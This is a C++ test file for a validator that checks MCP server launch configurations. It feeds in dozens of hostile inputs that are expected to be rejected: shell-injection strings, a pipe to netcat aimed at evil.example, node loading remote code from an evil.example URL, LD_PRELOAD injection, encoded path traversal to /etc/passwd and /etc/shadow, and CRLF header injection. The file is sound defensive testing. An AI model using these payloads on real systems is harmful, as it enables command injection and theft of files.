#include "crux/mcp/security.h"

#include <gtest/gtest.h>
#include <stdlib.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

namespace crux::mcp {
namespace {

namespace fs = std::filesystem;

// A directory of fake executables, so PATH lookups do not depend on this machine: node, npx,
// npm, uv, uvx, python3, python3.11, docker and my-server are executable (0755); pip is a
// plain file (0644); dir-node/node is a directory.
class FakeBin {
 public:
  FakeBin() {
    std::string pattern = (fs::temp_directory_path() / "crux-mcp-bin-XXXXXX").string();
    dir_ = ::mkdtemp(pattern.data());
    for (const char* name :
         {"node", "npx", "npm", "uv", "uvx", "python3", "python3.11", "docker", "my-server"}) {
      Write(name, 0755);
    }
    Write("pip", 0644);
    fs::create_directories(fs::path(dir_) / "dir-node" / "node");
  }
  ~FakeBin() { fs::remove_all(dir_); }

  const std::string& dir() const { return dir_; }
  std::string Path(const std::string& name) const { return dir_ + "/" + name; }

 private:
  void Write(const std::string& name, mode_t mode) const {
    std::ofstream(Path(name)) << "#!/bin/sh\nexit 0\n";
    ::chmod(Path(name).c_str(), mode);
  }

  std::string dir_;
};

const FakeBin& Bin() {
  static const FakeBin bin;
  return bin;
}

SecurityOptions Options() {
  SecurityOptions options;
  options.path_env = "/nonexistent-crux-path:" + Bin().dir();
  return options;
}

ServerConfig Stdio(std::string command, std::vector<std::string> args = {},
                   std::map<std::string, std::string> env = {}, std::string cwd = {}) {
  ServerConfig server;
  server.name = "srv";
  server.transport = Transport::kStdio;
  server.command = std::move(command);
  server.args = std::move(args);
  server.env = std::move(env);
  server.cwd = std::move(cwd);
  return server;
}

ServerConfig Http(std::string url, std::map<std::string, std::string> headers = {}) {
  ServerConfig server;
  server.name = "srv";
  server.transport = Transport::kHttp;
  server.url = std::move(url);
  server.headers = std::move(headers);
  return server;
}

struct HostileCase {
  std::string label;
  ServerConfig server;
  std::string fragment;  // expected in the message
};

const std::string kNul("\0", 1);

std::vector<HostileCase> CommandCases() {
  const std::string allow = "is not in the allowed commands whitelist";
  const std::string pattern = "Command contains dangerous pattern";
  const std::string traversal = "Command contains path traversal";
  return {
      {"bash", Stdio("bash"), "Command 'bash' " + allow},
      {"sh", Stdio("sh", {"-c", "id"}), "Command 'sh' " + allow},
      {"zsh", Stdio("zsh"), "Command 'zsh' " + allow},
      {"curl", Stdio("curl", {"https://evil.example"}), "Command 'curl' " + allow},
      {"wget", Stdio("wget"), "Command 'wget' " + allow},
      {"rm", Stdio("rm", {"-rf", "/tmp/x"}), "Command 'rm' " + allow},
      {"absolute bash", Stdio("/bin/bash"), "Command 'bash' " + allow},
      {"upper case NODE", Stdio("NODE"), "Command 'NODE' " + allow},
      {"python3.11x", Stdio("python3.11x"), "Command 'python3.11x' " + allow},
      {"command with its args", Stdio("npx -y server"), "Command 'npx -y server' " + allow},
      {"semicolon", Stdio("npx; rm -rf /"), pattern},
      {"pipe", Stdio("npx | cat"), pattern},
      {"and", Stdio("npx && id"), pattern},
      {"single ampersand", Stdio("npx & id"), pattern},
      {"backtick", Stdio("npx `id`"), pattern},
      {"dollar paren", Stdio("npx $(id)"), pattern},
      {"dollar brace", Stdio("${HOME}/node"), pattern},
      {"redirect out", Stdio("node > /tmp/x"), pattern},
      {"redirect in", Stdio("node < /etc/passwd"), pattern},
      {"tilde", Stdio("~/bin/node"), pattern},
      {"traversal", Stdio("../../../bin/bash"), traversal},
      {"encoded traversal", Stdio("%2e%2e/%2e%2e/bin/node"), traversal},
      {"mixed-case encoding", Stdio("%2E%2e/bin/node"), traversal},
      {"double encoded", Stdio("%252e%252e/bin/node"), traversal},
      {"backslash traversal", Stdio("..\\..\\bin\\node"), traversal},
      {"absolute traversal", Stdio("/usr/bin/../bin/node"), traversal},
      {"newline", Stdio("node\n--eval"), "Command contains newline characters"},
      {"carriage return", Stdio("node\r"), "Command contains newline characters"},
      {"nul", Stdio("node" + kNul + "x"), "Command contains a NUL byte"},
      {"relative path", Stdio("bin/node"), "must be a bare name found on PATH or an absolute path"},
      {"dot slash", Stdio("./node"), "must be a bare name found on PATH or an absolute path"},
      {"not on PATH", Stdio("pipx"), "Command 'pipx' not found in PATH"},
      {"on PATH, not executable", Stdio("pip"), "Command 'pip' not found in PATH"},
      {"absolute missing", Stdio("/nonexistent-crux/node"),
       "does not exist or is not an executable"},
      {"absolute not executable", Stdio(Bin().Path("pip")),
       "does not exist or is not an executable"},
      {"absolute directory", Stdio(Bin().Path("dir-node/node")), "is not an executable file"},
  };
}

std::vector<HostileCase> ArgumentCases() {
  const std::string pattern = "Argument 0 contains dangerous pattern";
  const std::string traversal = "Argument 0 contains path traversal";
  auto npx = [](std::string arg) { return Stdio("npx", {std::move(arg)}); };
  return {
      {"arg semicolon", npx("; rm -rf /"), pattern},
      {"arg backtick", npx("`cat /etc/passwd`"), pattern},
      {"arg dollar paren", npx("$(whoami)"), pattern},
      {"arg dollar brace", npx("${HOME}"), pattern},
      {"arg pipe", npx("a | nc evil.example 1"), pattern},
      {"arg and", npx("x && y"), pattern},
      {"arg redirect", npx("> /etc/passwd"), pattern},
      {"arg append redirect", npx(">>/root/.bashrc"), pattern},
      {"arg input redirect", npx("< /etc/shadow"), pattern},
      {"second arg", Stdio("npx", {"-y", "$(id)"}), "Argument 1 contains dangerous pattern"},
      {"arg traversal", npx("../../../etc/passwd"), traversal},
      {"arg encoded", npx("%2e%2e/%2e%2e/etc/passwd"), traversal},
      {"arg all encoded", npx("%2E%2e%2F%2e%2E%2Fetc"), traversal},
      {"arg encoded slash", npx("..%2f..%2fetc"), traversal},
      {"arg double encoded", npx("%252e%252e%252fetc"), traversal},
      {"arg triple encoded", npx("%25252e%25252e/x"), traversal},
      {"arg backslash", npx("..\\..\\windows"), traversal},
      {"arg encoded backslash", npx("..%5c..%5cx"), traversal},
      {"arg trailing dotdot", npx("/tmp/.."), traversal},
      {"arg option value", npx("--root=/data/../../etc"), traversal},
      {"arg bare dotdot", npx(".."), traversal},
      {"arg overlong utf-8", npx("%c0%ae%c0%ae/etc"), traversal},
      {"arg newline", npx("line\nbreak"), "Argument 0 contains newline characters"},
      {"arg carriage return", npx("cr\rhere"), "Argument 0 contains newline characters"},
      {"arg nul", npx("/tmp" + kNul + "/../etc"), "Argument 0 contains a NUL byte"},
  };
}

std::vector<HostileCase> InterpreterCases() {
  const std::string python = "enables inline Python execution for ";
  const std::string js = "enables inline JavaScript evaluation for 'node'";
  const std::string print = "enables JavaScript evaluation/print for 'node'";
  const std::string url = "enables loading code from a data: or http(s) URL for 'node'";
  const std::string shell = "enables shell command execution for ";
  return {
      {"python -c", Stdio("python3", {"-c", "print(1)"}),
       "Argument 0 '-c' " + python + "'python3'"},
      {"python -Ic", Stdio("python3", {"-Ic", "x"}), python},
      {"python -cCODE", Stdio("python3", {"-cimport os"}), python},
      {"python -u -c", Stdio("python3", {"-u", "-c", "x"}), "Argument 1 '-c' " + python},
      {"python3.11 -c", Stdio("python3.11", {"-c", "x"}), python + "'python3.11'"},
      {"node -e", Stdio("node", {"-e", "x"}), "Argument 0 '-e' " + js},
      {"node --eval", Stdio("node", {"--eval", "x"}), js},
      {"node --eval=", Stdio("node", {"--eval=require('child_process').execSync('id')"}), js},
      {"node -p", Stdio("node", {"-p", "1"}), print},
      {"node --print", Stdio("node", {"--print", "1"}), print},
      {"node --print=", Stdio("node", {"--print=process.env"}), print},
      {"node -pe", Stdio("node", {"-pe", "1"}), js},
      {"node --import data:", Stdio("node", {"--import", "data:text/javascript,console.log(1)"}),
       url},
      {"node -r https:", Stdio("node", {"-r", "https://evil.example/x.js"}), url},
      {"node --require=http:", Stdio("node", {"--require=HTTP://evil.example/x.js"}), url},
      {"node --experimental-loader", Stdio("node", {"--experimental-loader", "data:,x"}), url},
      {"node --inspect", Stdio("node", {"--inspect=0.0.0.0:9229", "server.js"}),
       "enables a debugger port"},
      {"npx -c", Stdio("npx", {"-c", "touch /tmp/x"}), "Argument 0 '-c' " + shell + "'npx'"},
      {"npx --call", Stdio("npx", {"--call", "id"}), shell + "'npx'"},
      {"npx --call=", Stdio("npx", {"--call=id"}), shell + "'npx'"},
      {"npm exec --call=", Stdio("npm", {"exec", "--call=id"}), shell + "'npm'"},
      {"npx node -e", Stdio("npx", {"-y", "node", "-e", "x"}), "Argument 2 '-e' " + js},
      {"npx node@22 -e", Stdio("npx", {"node@22", "-e", "x"}), js},
      {"uv run python -c", Stdio("uv", {"run", "python", "-c", "x"}), python + "'python'"},
      {"docker sh -c", Stdio("docker", {"run", "--rm", "alpine", "sh", "-c", "id"}),
       "Argument 4 '-c' " + shell + "'sh'"},
      {"uv bash -lc", Stdio("uv", {"tool", "run", "bash", "-lc", "id"}), shell + "'bash'"},
  };
}

std::vector<HostileCase> EnvironmentCases() {
  const std::string forbidden = "environment variable is not allowed for security reasons";
  auto env = [](std::string key, std::string value = "x") {
    return Stdio("npx", {}, {{std::move(key), std::move(value)}});
  };
  return {
      {"LD_PRELOAD", env("LD_PRELOAD", "/tmp/x.so"), "Setting 'LD_PRELOAD' " + forbidden},
      {"ld_preload", env("ld_preload"), "Setting 'ld_preload' " + forbidden},
      {"Ld_Library_Path", env("Ld_Library_Path"), "Setting 'Ld_Library_Path' " + forbidden},
      {"LD_AUDIT", env("LD_AUDIT"), forbidden},
      {"DYLD_INSERT_LIBRARIES", env("DYLD_INSERT_LIBRARIES"), forbidden},
      {"dyld_library_path", env("dyld_library_path"), forbidden},
      {"PATH", env("PATH", "/tmp"), "Setting 'PATH' " + forbidden},
      {"Path", env("Path", "/tmp"), forbidden},
      {"PYTHONPATH", env("PYTHONPATH", "/tmp"), forbidden},
      {"PythonStartup", env("PythonStartup", "/tmp/x.py"), forbidden},
      {"NODE_PATH", env("NODE_PATH", "/tmp"), forbidden},
      {"node_options", env("node_options", "--require /tmp/x.js"), forbidden},
      {"BASH_ENV", env("BASH_ENV", "/tmp/x"), forbidden},
      {"ENV", env("ENV", "/tmp/x"), forbidden},
      {"npm_config_call", env("npm_config_call", "id"), forbidden},
      {"name with =", env("LD_PRELOAD=/tmp/x.so #"), "Environment variable name"},
      {"name with space", env("FOO BAR"), "Environment variable name 'FOO BAR' is not valid"},
      {"empty name", env(""), "Environment variable name '' is not valid"},
      {"name with newline", env("A\nB"), "Environment variable name 'A\\nB' is not valid"},
      {"value $(", env("TOKEN", "$(id)"),
       "Environment variable 'TOKEN' contains dangerous pattern"},
      {"value ;", env("TOKEN", "a;b"), "contains dangerous pattern"},
      {"value backtick", env("TOKEN", "`id`"), "contains dangerous pattern"},
      {"value ${", env("TOKEN", "${HOME}"), "contains dangerous pattern"},
      {"value traversal", env("DATA", "../../secret"),
       "Environment variable 'DATA' contains path traversal"},
      {"value encoded", env("DATA", "%2e%2e/x"), "contains path traversal"},
      {"value newline", env("DATA", "a\nb"), "Environment variable 'DATA' contains newline"},
      {"value nul", env("DATA", "a" + kNul), "Environment variable 'DATA' contains a NUL byte"},
  };
}

std::vector<HostileCase> UrlCases() {
  const std::string scheme = "URL must use http:// or https:// scheme. Got: ";
  const std::string traversal = "URL contains path traversal";
  return {
      {"file url", Http("file:///etc/passwd"), scheme + "file:///etc/passwd"},
      {"javascript url", Http("javascript:alert(1)"), scheme},
      {"ftp url", Http("ftp://example.com/mcp"), scheme},
      {"ws url", Http("ws://localhost:3000/mcp"), scheme},
      {"scheme-relative", Http("//example.com/mcp"), scheme},
      {"no host", Http("http:///mcp"), "URL has no host"},
      {"user info", Http("http://user:pw@example.com/mcp"), "must not contain user information"},
      {"host confusion", Http("http://localhost@evil.example/mcp"), "user information"},
      {"backslash authority", Http("http://evil.example\\@good.example/"), "user information"},
      {"space in host", Http("http://local host/mcp"), "URL has an invalid host or port"},
      {"bad port", Http("http://localhost:99999/mcp"), "URL has an invalid host or port"},
      {"tilde host", Http("https://~root/"), "URL has an invalid host or port"},
      {"encoded traversal", Http("https://x/%2e%2e/%2e%2e/private"), traversal},
      {"plain traversal", Http("https://example.com/a/../../admin"), traversal},
      {"encoded slash", Http("https://example.com/a/..%2f..%2fadmin"), traversal},
      {"double encoded", Http("HTTP://example.com/%252e%252e/x"), traversal},
      {"semicolon", Http("http://localhost:3000/mcp;id"), "URL contains dangerous pattern"},
      {"command substitution", Http("http://localhost:3000/mcp?q=$(id)"),
       "URL contains dangerous pattern"},
      {"header split", Http("http://localhost:3000/mcp\r\nX-Evil: 1"),
       "URL contains newline characters"},
      {"nul", Http("http://localhost:3000/" + kNul), "URL contains a NUL byte"},
  };
}

std::vector<HostileCase> HeaderAndCwdCases() {
  const std::string local = "http://localhost:3000/mcp";
  return {
      {"header CRLF", Http(local, {{"Authorization", "Bearer x\r\nX-Injected: 1"}}),
       "Header 'Authorization' contains newline characters. Potential header injection"},
      {"header LF", Http(local, {{"X-Token", "a\nb"}}), "Header 'X-Token' contains newline"},
      {"header name", Http(local, {{"Bad Header", "x"}}), "is not a valid HTTP header name"},
      {"Host header", Http(local, {{"Host", "evil"}}), "Header 'Host' is set by the transport"},
      {"session header", Http(local, {{"mcp-session-id", "x"}}), "is set by the transport"},
      {"content length", Http(local, {{"Content-Length", "0"}}), "is set by the transport"},
      {"cwd traversal", Stdio("npx", {}, {}, "/tmp/../etc"),
       "Working directory contains path traversal"},
      {"cwd relative", Stdio("npx", {}, {}, "relative/dir"), "must be an absolute path"},
      {"cwd missing", Stdio("npx", {}, {}, "/nonexistent-crux-dir"),
       "does not exist or is not a directory"},
      {"cwd is a file", Stdio("npx", {}, {}, Bin().Path("node")), "is not a directory"},
      {"cwd newline", Stdio("npx", {}, {}, "/tmp\n"), "Working directory contains newline"},
  };
}

std::vector<HostileCase> HostileCases() {
  std::vector<HostileCase> all;
  for (auto part : {CommandCases(), ArgumentCases(), InterpreterCases(), EnvironmentCases(),
                    UrlCases(), HeaderAndCwdCases()}) {
    all.insert(all.end(), part.begin(), part.end());
  }
  return all;
}

TEST(McpSecurity, HostileConfigurationsAreRejected) {
  const std::vector<HostileCase> cases = HostileCases();
  ASSERT_GE(cases.size(), 60u);
  for (const HostileCase& c : cases) {
    const Status status = ValidateServer(c.server, Options());
    ASSERT_FALSE(status.ok()) << c.label;
    EXPECT_EQ(status.error().code(), ErrorCode::kInvalidArgument) << c.label;
    EXPECT_TRUE(status.error().message().starts_with("MCP server 'srv': ")) << c.label;
    EXPECT_NE(status.error().message().find(c.fragment), std::string::npos)
        << c.label << ": " << status.error().message();
  }
}

// The bypass accepts every hostile configuration and reports what it skipped.
TEST(McpSecurity, UnsafeBypassSkipsAndReportsEveryViolation) {
  SecurityOptions options = Options();
  options.allow_unsafe = true;
  for (const HostileCase& c : HostileCases()) {
    EXPECT_TRUE(ValidateServer(c.server, options).ok()) << c.label;
    const std::vector<std::string> warnings = SecurityWarnings(c.server, options);
    ASSERT_FALSE(warnings.empty()) << c.label;
    EXPECT_NE(warnings.front().find("security validation bypassed (CRUX_MCP_ALLOW_UNSAFE=1)"),
              std::string::npos)
        << c.label;
    bool named = false;
    for (const std::string& w : warnings)
      named |= w.find(c.fragment) != std::string::npos;
    EXPECT_TRUE(named) << c.label;
  }
}

TEST(McpSecurity, BenignConfigurationsAreAccepted) {
  SecurityOptions extra = Options();
  extra.extra_commands = {"my-server"};
  const std::vector<std::pair<ServerConfig, SecurityOptions>> cases = {
      {Stdio("npx", {"-y", "@modelcontextprotocol/server-filesystem", "/tmp"}), Options()},
      {Stdio("node", {"/opt/servers/build/index.js"}), Options()},
      {Stdio("node", {"server.js", "--port", "8080"}), Options()},
      {Stdio("node", {"--require", "./tracing.js", "--max-old-space-size=512", "s.js"}), Options()},
      {Stdio("python3", {"-m", "mcp_server_fetch"}), Options()},
      {Stdio("python3", {"-u", "server.py", "--db-path", "data.db"}), Options()},
      {Stdio("python3", {"-Wonce", "server.py"}), Options()},
      {Stdio("python3.11", {"server.py"}), Options()},
      {Stdio("uvx", {"--python", "python3.12", "mcp-server-x", "-c", "cfg.json"}), Options()},
      {Stdio("uvx", {"mcp-server-sqlite", "--db-path", "~/test.db"}), Options()},
      {Stdio("npx", {"-y", "@scope/x", "--range=1..5", "--greeting=a>b", "..."}), Options()},
      {Stdio("docker", {"run", "-i", "--rm", "mcp/fetch"}), Options()},
      {Stdio(Bin().Path("node"), {"s.js"}), Options()},
      {Stdio("npx", {}, {{"API_KEY", "abc"}, {"DEBUG", "1"}, {"DATA_DIR", "/srv/data"}}),
       Options()},
      {Stdio("npx", {}, {}, Bin().dir()), Options()},
      {Stdio("my-server"), extra},
      {Http("http://localhost:3000/mcp"), Options()},
      {Http("http://127.0.0.1:8080/mcp"), Options()},
      {Http("http://[::1]:3000/mcp"), Options()},
      {Http("https://mcp.example.com/mcp?x=1#f", {{"Authorization", "Bearer abc"}}), Options()},
      {Http("HTTPS://mcp.example.com"), Options()},
  };
  for (const auto& [server, options] : cases) {
    const Status status = ValidateServer(server, options);
    EXPECT_TRUE(status.ok()) << server.command << server.url << ": " << status.error().message();
    EXPECT_TRUE(SecurityWarnings(server, options).empty()) << server.command << server.url;
  }
}

TEST(McpSecurity, PathCheckCanBeTurnedOff) {
  SecurityOptions options = Options();
  options.check_path = false;
  EXPECT_TRUE(ValidateServer(Stdio("/opt/nothing/node"), options).ok());
  EXPECT_TRUE(ValidateServer(Stdio("pipx"), options).ok());
  EXPECT_TRUE(ValidateServer(Stdio("npx", {}, {}, "/nonexistent-crux-dir"), options).ok());
  // Every other rule still applies.
  EXPECT_FALSE(ValidateServer(Stdio("bash"), options).ok());
  EXPECT_FALSE(ValidateServer(Stdio("bin/node"), options).ok());
}

TEST(McpSecurity, AllowListNamesEveryAllowedCommand) {
  SecurityOptions options = Options();
  options.extra_commands = {"zz-server"};
  const Status status = ValidateServer(Stdio("bash"), options);
  ASSERT_FALSE(status.ok());
  EXPECT_NE(status.error().message().find("Allowed commands: docker, mcp-server-brave-search"),
            std::string::npos);
  EXPECT_NE(status.error().message().find("uvx, zz-server"), std::string::npos);
}

TEST(McpSecurity, FirstViolationInRuleOrder) {
  ServerConfig server = Stdio("bash", {"$(id)"}, {{"PATH", "/x"}});
  server.cwd = "relative";
  EXPECT_NE(ValidateServer(server, Options()).error().message().find("Command 'bash'"),
            std::string::npos);
  SecurityOptions unsafe = Options();
  unsafe.allow_unsafe = true;
  EXPECT_EQ(SecurityWarnings(server, unsafe).size(), 4u);
}

TEST(McpSecurity, PlainHttpToAnotherHostIsAWarningNotAnError) {
  const ServerConfig server = Http("http://mcp.example.com/mcp");
  EXPECT_TRUE(ValidateServer(server, Options()).ok());
  const std::vector<std::string> warnings = SecurityWarnings(server, Options());
  ASSERT_EQ(warnings.size(), 1u);
  EXPECT_EQ(warnings[0],
            "MCP server 'srv': URL uses unencrypted http:// to a host other than loopback: "
            "http://mcp.example.com/mcp");
}

TEST(McpSecurity, ResolveCommand) {
  SecurityOptions options;
  options.path_env = "::relative:" + Bin().dir();
  ASSERT_TRUE(ResolveCommand("node", options).ok());
  EXPECT_EQ(*ResolveCommand("node", options), Bin().Path("node"));
  EXPECT_EQ(*ResolveCommand(Bin().Path("npx"), options), Bin().Path("npx"));
  EXPECT_EQ(ResolveCommand("pip", options).error().code(), ErrorCode::kNotFound);
  EXPECT_EQ(ResolveCommand("absent", options).error().code(), ErrorCode::kNotFound);
  EXPECT_EQ(ResolveCommand("bin/node", options).error().code(), ErrorCode::kInvalidArgument);
  options.path_env = "relative";  // an entry that is not absolute is never searched
  EXPECT_FALSE(ResolveCommand("node", options).ok());
}

TEST(McpSecurity, ContainsPathTraversal) {
  const std::vector<std::pair<std::string, bool>> cases = {
      {"..", true},          {"../x", true},     {"a/..", true},
      {"a\\..\\b", true},    {"%2e%2e", true},   {"%2E%2E%2Fx", true},
      {"%252e%252e/", true}, {"x/%2e./y", true}, {"%c0%ae%c0%ae/x", true},
      {"...", false},        {"a..b", false},    {"1..5", false},
      {"/tmp/x", false},     {"%2e/x", false},   {"100%", false},
      {"%zz%2", false},      {"", false},        {"./x", false},
  };
  for (const auto& [value, expected] : cases) {
    EXPECT_EQ(ContainsPathTraversal(value), expected) << value;
  }
}

TEST(McpSecurity, OptionsFromEnvironment) {
  const std::string name(kAllowUnsafeEnv);
  ::unsetenv(name.c_str());
  EXPECT_FALSE(SecurityOptionsFromEnv().allow_unsafe);
  for (const char* value : {"true", "yes", "0", " 1", "1 ", ""}) {
    ::setenv(name.c_str(), value, 1);
    EXPECT_FALSE(SecurityOptionsFromEnv().allow_unsafe) << value;
  }
  ::setenv(name.c_str(), "1", 1);
  EXPECT_TRUE(SecurityOptionsFromEnv().allow_unsafe);
  EXPECT_TRUE(SecurityOptionsFromEnv().check_path);
  ::unsetenv(name.c_str());
}

}  // namespace
}  // namespace crux::mcp
